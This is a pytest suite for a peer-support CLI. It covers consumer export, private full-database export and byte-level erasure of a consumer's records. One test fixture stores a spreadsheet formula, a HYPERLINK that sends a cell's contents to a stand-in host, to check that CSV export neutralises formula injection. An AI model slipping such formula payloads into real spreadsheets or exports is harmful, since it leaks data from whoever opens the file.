"""peer export, peer consumer export, and peer consumer forget (erasure down to the disk bytes)."""

from __future__ import annotations

import csv
import json
import sqlite3
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from prompt_toolkit.application import create_app_session
from prompt_toolkit.input import create_pipe_input
from prompt_toolkit.output import DummyOutput

from peercli.cli import runtime
from peercli.core.csvcells import neutralise_cell, restore_cell

NAME, PHONE = "Zebedee Quartermain", "555-0199-7731"
NOTE, CHECKIN_NOTE = "xylophone marmalade secret", "purple heron confession"
SAMPLE = Path(__file__).resolve().parent.parent / "data" / "groups.sample.csv"
COMPARED = ("name", "topics", "format", "meetings", "schedule", "status", "organization",
            "description", "facilitation", "audience", "languages", "accessibility",
            "open_to_newcomers", "cost", "address", "city", "postal_code", "latitude",
            "longitude", "online_url", "phone", "email", "website", "notes", "source_key",
            "last_verified")


@pytest.fixture
def people(peer, db_path, tmp_path, monkeypatch) -> dict:
    monkeypatch.setenv("PEER_NOW", "2026-11-21T10:00")
    listing = tmp_path / "g.csv"
    listing.write_text("id,name,schedule,address\n"
                       "w1,Walking Group,Sat 10:00-11:00,Riverside Park\n", encoding="utf-8")
    peer("group", "import", str(listing))
    zeb = peer.json("consumer", "add", NAME, "--phone", PHONE, "--note", NOTE,
                    "--interests", "grief, walking", "--available", "Tue evening",
                    "--consent", "store,contact")
    peer("consumer", "consent", str(zeb["id"]), "revoke", "contact", "--note", "asked us")
    first = peer.json("checkin", "log", str(zeb["id"]), "--mode", "phone", "--minutes", "20",
                      "--mood", "2", "--note", CHECKIN_NOTE, "--next", "7d")
    peer.json("checkin", "amend", str(first["id"]), "--minutes", "30",
              "--reason", "longer call")
    other = peer.json("consumer", "add", "Ana Other", "--phone", "555-0000", "--consent", "all")
    peer.json("checkin", "log", "Ana", "--mode", "text", "--minutes", "5", "--note", "fine")
    conn = sqlite3.connect(db_path)
    gid = conn.execute("SELECT id FROM groups").fetchone()[0]
    for cid in (zeb["id"], other["id"]):
        rid = conn.execute(
            "INSERT INTO referrals (consumer_id, group_id, status, reasons, created_at, updated_at)"
            " VALUES (?, ?, 'attended', '[\"likes walking\"]', '2026-11-20T10:00', "
            "'2026-11-20T10:00')", (cid, gid)).lastrowid
        conn.execute("INSERT INTO referral_events (referral_id, status, at, note) VALUES "
                     "(?, 'referred', '2026-11-20T10:00', ?)", (rid, f"{NAME} was keen"
                                                                if cid == zeb["id"] else "x"))
        conn.execute("INSERT INTO attendance (consumer_id, group_id, referral_id, attended_on) "
                     "VALUES (?, ?, ?, '2026-11-21')", (cid, gid, rid))
    conn.commit()
    conn.close()
    return {"zeb": zeb["id"], "ana": other["id"], "checkin": first["id"], "group": gid}


def test_consumer_export_is_the_complete_record(peer, people):
    record = peer.json("consumer", "export", "Zebedee")
    assert record["consumer"]["name"] == NAME and record["consumer"]["phone"] == PHONE
    assert record["consumer"]["interests"] == ["grief", "walking"]
    assert record["consumer"]["availability"] == [{"day": "TU", "start": "17:00",
                                                   "end": "21:00"}]
    assert [(c["kind"], c["granted"]) for c in record["consent_history"]] == [
        ("store", True), ("contact", True), ("contact", False)]
    versions = record["checkins"]
    assert [(c["minutes"], c["superseded"], c["amends_id"]) for c in versions] == [
        (20, True, None), (30, False, people["checkin"])]
    assert versions[0]["note"] == CHECKIN_NOTE
    [referral] = record["referrals"]
    assert referral["group_name"] == "Walking Group" and referral["reasons"] == ["likes walking"]
    assert [e["status"] for e in referral["events"]] == ["referred"]
    assert [a["attended_on"] for a in record["attendance"]] == ["2026-11-21"]
    assert {"consumer", "consent"} >= {a["entity"] for a in record["audit"]}
    assert "Ana Other" not in json.dumps(record)


def test_consumer_export_to_private_file(peer, people, tmp_path):
    out = tmp_path / "zeb.json"
    peer("consumer", "export", str(people["zeb"]), "-o", str(out))
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert json.loads(out.read_text())["consumer"]["id"] == people["zeb"]


def raw_files(db_path: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in db_path.parent.iterdir()
            if p.name.startswith(db_path.name)}


def test_forget_erases_rows_and_bytes(peer, people, db_path, query, db_mode):
    # An idle extra connection keeps the -wal/-shm files in place, so they are searched too.
    watcher = sqlite3.connect(db_path)
    try:
        assert watcher.execute("SELECT count(*) FROM consumers").fetchone()[0] == 2
        before = b"".join(raw_files(db_path).values())
        # the test can fail: the name was there (encrypted: never readable on disk)
        assert (NAME.encode() in before) is (db_mode == "plain")
        result = peer.json("consumer", "forget", "Zebedee", "--yes")
        assert result["consumer_id"] == people["zeb"] and result["wal_cleared"] is True
        assert result["deleted"]["checkins"] == 2 and result["deleted"]["consents"] == 3
        files = raw_files(db_path)
        assert {"peer.db", "peer.db-wal", "peer.db-shm"} <= set(files)
        for name, data in files.items():
            for secret in (NAME, "Zebedee", PHONE, NOTE, CHECKIN_NOTE, "was keen"):
                assert secret.encode() not in data, (secret, name)
    finally:
        watcher.close()
    for table in ("consumers", "consumer_interests", "consumer_availability", "consents",
                  "checkins", "referrals", "attendance"):
        assert query(f"SELECT count(*) AS n FROM {table} WHERE "
                     + ("id" if table == "consumers" else "consumer_id") + " = ?",
                     people["zeb"])[0]["n"] == 0
    assert query("SELECT count(*) AS n FROM referral_events")[0]["n"] == 1  # Ana's
    assert query("SELECT name FROM consumers")[0]["name"] == "Ana Other"
    tomb = query("SELECT * FROM audit WHERE action = 'forget'")
    assert [(t["entity"], t["entity_id"], t["fields"]) for t in tomb] == [
        ("consumer", str(people["zeb"]), "[]")]
    assert query("PRAGMA integrity_check")[0][0] == "ok"
    assert peer.json("consumer", "list") and len(peer.json("consumer", "list")) == 1


def test_forget_needs_yes_off_a_terminal(peer, people, db_path, query):
    before = db_path.read_bytes()
    result = peer("consumer", "forget", "Zebedee", ok=False)
    assert result.exit_code == 1 and "--yes" in result.stderr
    assert db_path.read_bytes() == before
    assert query("SELECT count(*) AS n FROM consumers")[0]["n"] == 2


@pytest.mark.parametrize("answer, erased", [
    ("zebedee  QUARTERMAIN", True), ("#{id}", True), ("y", False), ("Zebedee", False), ("", False)])
def test_forget_asks_to_type_the_name_at_a_terminal(peer, people, query, monkeypatch, answer,
                                                   erased):
    """Erasing cannot be undone, so a y is not enough: the whole name or the id, typed."""
    monkeypatch.setattr(runtime, "can_prompt", lambda: True)
    with create_pipe_input() as pipe, create_app_session(input=pipe, output=DummyOutput()):
        pipe.send_text(answer.format(id=people["zeb"]) + "\r")
        result = peer("consumer", "forget", "Zebedee")
    remaining = query("SELECT count(*) AS n FROM consumers WHERE id = ?", people["zeb"])[0]["n"]
    assert remaining == (0 if erased else 1)
    if not erased:
        assert result.stdout.startswith("Nothing changed")
        assert "Erased" not in result.stderr


def test_export_writes_every_table_private_and_neutralised(peer, people, tmp_path, db_path):
    conn = sqlite3.connect(db_path)
    conn.execute("UPDATE consumers SET notes = ? WHERE id = ?",
                 ('=HYPERLINK("http://x.example/?"&A1,"click")', people["ana"]))
    conn.execute("UPDATE groups SET description = '@SUM(1+1)', cost = '-5' ")
    conn.commit()
    conn.close()
    out = tmp_path / "export" / "nested"
    peer("export", "-o", str(out))
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    names = sorted(p.name for p in out.iterdir())
    tables = ["attendance", "audit", "change_alerts", "checkins", "consents",
              "consumer_availability", "consumer_interests", "consumers", "goal_events",
              "goal_steps", "group_changes", "group_links", "group_sessions", "group_topics",
              "groups",
              "meetings", "plan_goals", "plan_reviews", "referral_events", "referrals",
              "release_events", "releases", "settings", "sources"]
    assert names == sorted([f"{t}.csv" for t in tables] + [f"{t}.json" for t in tables]
                           + ["groups.native.csv"])
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in out.iterdir())
    with open(out / "consumers.csv", newline="", encoding="utf-8") as f:
        rows = {r["name"]: r for r in csv.DictReader(f)}
    assert rows["Ana Other"]["notes"] == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    assert rows[NAME]["phone"] == PHONE  # "555-..." starts with a digit: left alone
    with open(out / "groups.csv", newline="", encoding="utf-8") as f:
        group = next(csv.DictReader(f))
    assert (group["description"], group["cost"]) == ("'@SUM(1+1)", "'-5")
    consumers = json.loads((out / "consumers.json").read_text(encoding="utf-8"))
    assert consumers[1]["notes"].startswith("=HYPERLINK")  # JSON keeps the real value
    checkins = json.loads((out / "checkins.json").read_text(encoding="utf-8"))
    assert len(checkins) == 3  # every version, amendments included
    only_json = tmp_path / "j"
    peer("export", "-o", str(only_json), "--format", "json")
    assert not list(only_json.glob("*.csv")) and (only_json / "groups.json").exists()
    bad = peer("export", "-o", str(tmp_path / "x"), "--format", "xlsx", ok=False)
    assert bad.exit_code == 1 and "xlsx" in bad.stderr


def groups_of(peer) -> list[dict]:
    return sorted(({k: g[k] for k in COMPARED} for g in peer.json("group", "list", "--all")),
                  key=lambda g: g["source_key"])


def reimport(peer, monkeypatch, tmp_path, native: Path) -> list[dict]:
    monkeypatch.setenv("PEER_DB", str(tmp_path / "fresh" / "peer.db"))
    peer("group", "import", str(native))
    return groups_of(peer)


def test_sample_directory_round_trips_through_native_csv(peer, tmp_path, monkeypatch):
    monkeypatch.setenv("PEER_NOW", "2026-11-21T10:00")
    peer("group", "import", str(SAMPLE))
    original = groups_of(peer)
    peer("export", "-o", str(tmp_path / "out"), "--format", "csv")
    again = reimport(peer, monkeypatch, tmp_path, tmp_path / "out" / "groups.native.csv")
    assert len(original) > 40
    assert again == original


def test_formula_like_values_round_trip(peer, tmp_path, monkeypatch):
    monkeypatch.setenv("PEER_NOW", "2026-11-21T10:00")
    listing = tmp_path / "tricky.csv"
    listing.write_text(
        "id,name,description,schedule,address,cost\n"
        "t1,=Art & Coffee,+1 more seat,Tue 18:00-19:00,@ The Hub,-\n"
        "t2,''=Quoted already,\"'Twas fine\",Wed 18:00-19:00,1 Main St,'-5\n",
        encoding="utf-8")
    peer("group", "import", str(listing))
    original = groups_of(peer)
    assert [g["name"] for g in original] == ["=Art & Coffee", "'=Quoted already"]
    assert [g["cost"] for g in original] == ["-", "-5"]
    peer("export", "-o", str(tmp_path / "out"), "--format", "csv")
    text = (tmp_path / "out" / "groups.native.csv").read_text(encoding="utf-8")
    assert "'=Art & Coffee" in text and "''=Quoted already" in text
    assert reimport(peer, monkeypatch, tmp_path, tmp_path / "out" / "groups.native.csv") == original


@given(st.text(max_size=40))
def test_neutralise_then_restore_is_identity(value):
    cell = neutralise_cell(value)
    assert restore_cell(cell) == value
    assert not cell or cell[0] not in "=+-@\t\r"
